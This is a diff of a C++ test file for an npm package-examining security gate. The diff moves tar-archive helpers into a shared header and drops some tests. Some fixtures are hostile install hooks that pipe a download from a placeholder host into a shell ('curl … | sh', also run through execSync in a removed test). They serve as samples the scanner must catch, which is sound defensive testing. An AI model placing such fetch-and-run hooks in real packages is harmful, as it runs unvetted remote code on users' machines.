@@ -1,54 +1,14 @@
 #include "gate/peek_examiner.h"
 
-#include <cstdio>
-
-#include "archive/pack.h"
 #include "gate/open_archive.h"
 #include "gate/testing.h"
+#include "gate/testing_archives.h"
 #include "model/default_registry.h"
 
 namespace cordon::gate {
 namespace {
 
 constexpr std::int64_t kDay = 86'400, kHour = 3'600;
-
-using Files = std::vector<std::pair<std::string, std::string>>;
-
-void add_entry(std::string& tar, const std::string& path, std::string_view content) {
-  std::string header(512, '\0');
-  const auto put = [&](std::size_t at, std::string_view text) { header.replace(at, text.size(), text); };
-  const auto octal = [&](std::size_t at, std::size_t digits, std::uint64_t number) {
-    std::string text(digits, '0');
-    for (std::size_t i = digits; i-- > 0; number /= 8) text[i] = static_cast<char>('0' + number % 8);
-    put(at, text);
-  };
-  put(0, path);
-  octal(100, 7, 0644);
-  octal(124, 11, content.size());
-  put(148, "        ");
-  header[156] = '0';
-  put(257, std::string_view("ustar\00000", 8));
-  std::uint64_t sum = 0;
-  for (const char c : header) sum += static_cast<unsigned char>(c);
-  octal(148, 6, sum);
-  header[154] = '\0';
-  tar += header;
-  tar += content;
-  tar.append((512 - content.size() % 512) % 512, '\0');
-}
-
-// A package's archive as npm packs it.
-std::string packed(const std::string& manifest, const Files& files) {
-  std::string tar;
-  add_entry(tar, "package/package.json", manifest);
-  for (const auto& [path, content] : files) add_entry(tar, "package/" + path, content);
-  tar.append(1'024, '\0');
-  return archive::gzip(tar);
-}
-
-std::string manifest(const std::string& name, const std::string& version, const std::string& more = "") {
-  return "{\"name\":\"" + name + "\",\"version\":\"" + version + "\"" + (more.empty() ? "" : "," + more) + "}";
-}
 
 class PeekExaminerTest : public GateTest {
  protected:
@@ -266,8 +226,9 @@ TEST_F(PeekExaminerTest, LetsThroughWhatCannotBeOpenedWhereTheUserWantsThat) {
 
 TEST_F(PeekExaminerTest, HoldsAnArchiveThatTwoProgramsUnpackDifferently) {
   std::string tar;
-  add_entry(tar, "package/package.json", manifest("left", "1.0.0"));
-  add_entry(tar, "package/package.json", manifest("left", "1.0.0", "\"scripts\":{\"postinstall\":\"node x.js\"}"));
+  tar += archive::tar_entry("package/package.json", manifest("left", "1.0.0"));
+  tar += archive::tar_entry("package/package.json",
+                            manifest("left", "1.0.0", "\"scripts\":{\"postinstall\":\"node x.js\"}"));
   tar.append(1'024, '\0');
   publish("left", {{"1.0.0", 90 * kDay, archive::gzip(tar), ""}});
   open_with_worker();
@@ -292,8 +253,8 @@ TEST_F(PeekExaminerTest, HoldsAnArchiveWithBytesBehindItsEndWhateverTheUserWants
 
 TEST_F(PeekExaminerTest, TellsOfAnArchiveThatMayBeReadOtherwiseAndLetsItThrough) {
   std::string tar;
-  add_entry(tar, "package/package.json", manifest("left", "1.0.0"));
-  add_entry(tar, "notes.txt", "in no folder");
+  tar += archive::tar_entry("package/package.json", manifest("left", "1.0.0"));
+  tar += archive::tar_entry("notes.txt", "in no folder");
   tar.append(1'024, '\0');
   publish("left", {{"1.0.0", 90 * kDay, archive::gzip(tar), ""}});
   open_with_worker();
@@ -326,7 +287,7 @@ TEST_F(PeekExaminerTest, HoldsWhatOnlyTheRegistryShows) {
   const std::string shown = "\"scripts\":{\"postinstall\":\"curl -s https://x.example.invalid/a | sh\"}";
   publish("left", {{"1.0.0", 90 * kDay, packed(manifest("left", "1.0.0"), {{"index.js", "1;"}}), shown + ","}});
   std::string tar;
-  add_entry(tar, "package/index.js", "1;");
+  tar += archive::tar_entry("package/index.js", "1;");
   tar.append(1'024, '\0');
   publish("bare", {{"1.0.0", 90 * kDay, archive::gzip(tar), shown + ","}});
   // Unless its own says so, too, npm builds what has a binding.gyp.
@@ -419,41 +380,6 @@ TEST_F(PeekExaminerTest, HoldsTheOtherLockfileWhereTheRegistrySaysThatThereIsOne
   EXPECT_EQ(net::status_of(answer), 403u);
   EXPECT_NE(answer.find("package-lock.json"), std::string::npos) << answer;
   EXPECT_EQ(net::status_of(get("/plain/-/plain-1.0.0.tgz")), 200u);
-}
-
-TEST(OpenArchive, NeedsLittleMoreMemoryThanItUnpacksTo) {
-  sandbox::WorkerLimits limits;
-  limits.memory_bytes = 48u << 20;
-  auto worker = sandbox::Worker::start(open_archive, limits);
-  ASSERT_TRUE(worker) << worker.error().describe();
-  std::string large(32 << 20, '\0');
-  std::uint32_t chance = 1;
-  for (char& c : large) c = static_cast<char>('a' + ((chance = chance * 1'103'515'245 + 12'345) >> 16) % 16);
-  const auto said = worker->ask(packed(manifest("left", "1.0.0"), {{"data.bin", large}}));
-  ASSERT_TRUE(said) << said.error().describe();
-  EXPECT_EQ(read_facts(*said)->unopened, "");
-}
-
-TEST(PeekCodec, WhatAWorkerSaysIsReadAsItWasWritten) {
-  const std::string runs = "\"scripts\":{\"postinstall\":\"node setup.js\"},\"dependencies\":{\"a\":\"1\"}";
-  const std::string said = open_archive(packed(
-      manifest("left", "1.0.0", runs),
-      {{"setup.js", "require('a'); require('child_process').execSync('curl https://x.example.invalid | sh');"}}));
-  const auto facts = read_facts(said);
-  ASSERT_TRUE(facts) << facts.error().describe();
-  EXPECT_EQ(facts->unopened, "");
-  ASSERT_TRUE(facts->peek.manifest);
-  EXPECT_EQ(facts->peek.manifest->name, "left");
-  EXPECT_TRUE(facts->peek.runs_at_install());
-  EXPECT_TRUE(facts->peek.named.contains("a"));
-  EXPECT_FALSE(facts->peek.flags.empty());
-  EXPECT_EQ(write_facts(*facts), said);
-}
-
-TEST(PeekCodec, WhatIsNoneIsRefused) {
-  for (const char* bad :
-       {"", "{}", "[]", "{\"unopened\":1}", "{\"unopened\":\"\",\"manifest\":\"\",\"oddities\":[{\"kind\":999}]}"})
-    EXPECT_FALSE(read_facts(bad)) << bad;
 }
 
 }  // namespace
